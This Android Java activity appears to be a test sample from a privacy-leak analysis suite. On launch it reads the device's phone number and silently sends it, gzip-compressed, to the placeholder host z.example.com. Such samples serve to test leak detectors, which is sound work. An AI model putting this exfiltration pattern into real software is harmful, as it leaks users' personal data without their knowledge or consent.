package cn.privlens.suite.gzip_stream;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import android.util.Log;
import java.io.IOException;
import java.io.OutputStreamWriter;
import java.io.Writer;
import java.net.URL;
import java.net.URLConnection;
import java.util.zip.GZIPOutputStream;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        final String id = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getLine1Number();
        new Thread(() -> {
            try {
                URLConnection c = new URL("https://z.example.com/g").openConnection();
                c.setDoOutput(true);
                GZIPOutputStream z = new GZIPOutputStream(c.getOutputStream());
                Writer w = new OutputStreamWriter(z, "UTF-8");
                w.write("{\"t\":\"" + id + "\"}");
                w.close();
                c.getInputStream();
            } catch (IOException e) {
                Log.w("suite", "net");
            }
        }).start();
    }
}
